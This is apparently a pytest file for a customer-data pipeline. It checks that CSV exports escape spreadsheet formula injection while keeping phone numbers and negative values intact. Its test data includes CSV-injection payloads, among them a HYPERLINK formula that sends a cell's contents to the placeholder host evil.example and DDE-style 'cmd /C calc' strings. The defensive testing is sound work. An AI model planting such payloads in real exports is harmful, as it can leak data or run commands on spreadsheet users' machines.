"""Every CSV custpipe writes is safe to open in a spreadsheet (OWASP "CSV injection")."""

from __future__ import annotations

import csv

import pandas as pd
import pytest

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
HARMLESS = ["+493012345678", "-12.5", "-3", "+44", "Müller GmbH", "a=b", "", "1-2-3"]


def _cells(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_formula_payloads_are_escaped_and_phones_and_numbers_kept():
    from custpipe.csv_safe import safe_for_spreadsheet

    frame = pd.DataFrame({"v": PAYLOADS + HARMLESS, "n": range(len(PAYLOADS) + len(HARMLESS))})
    safe = safe_for_spreadsheet(frame)
    assert safe["v"].tolist() == ["'" + p for p in PAYLOADS] + HARMLESS
    assert safe["n"].tolist() == frame["n"].tolist()
    assert frame["v"].tolist() == PAYLOADS + HARMLESS  # the input frame is not changed


def test_the_delta_csv_escapes_formulas_but_the_parquet_keeps_the_values(tmp_path):
    from custpipe.publish.erp import PUBLISHED_COLUMNS, export_delta

    delta = pd.DataFrame(
        [
            {c: None for c in PUBLISHED_COLUMNS}
            | {"change": "insert", "golden_id": f"G{i}", "name": p, "phone": "+493012345678"}
            for i, p in enumerate(PAYLOADS)
        ]
    )
    parquet, path = export_delta(delta, tmp_path, "run1")
    rows = _cells(path)
    names = [r[rows[0].index("name")] for r in rows[1:]]
    phones = {r[rows[0].index("phone")] for r in rows[1:]}
    assert names == ["'" + p for p in PAYLOADS]
    assert phones == {"+493012345678"}
    assert pd.read_parquet(parquet)["name"].tolist() == PAYLOADS


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_review_sheet_escapes_formulas(tmp_path, payload):
    from custpipe.matching.review import export_review

    review = pd.DataFrame(
        {
            "left_source_system": ["crm"],
            "left_source_id": [payload],
            "right_source_system": ["erp"],
            "right_source_id": ["-0000100017"],
            "score": [-0.5],
            "explanation": [payload],
        }
    )
    rows = _cells(export_review(review, tmp_path / "match_review.csv"))
    header, row = rows
    assert row[header.index("explanation")] == "'" + payload
    assert row[header.index("left")] == "crm:" + payload  # starts with the source: harmless
    assert row[header.index("right")] == "erp:-0000100017"
    assert row[header.index("score")] == "-0.5"
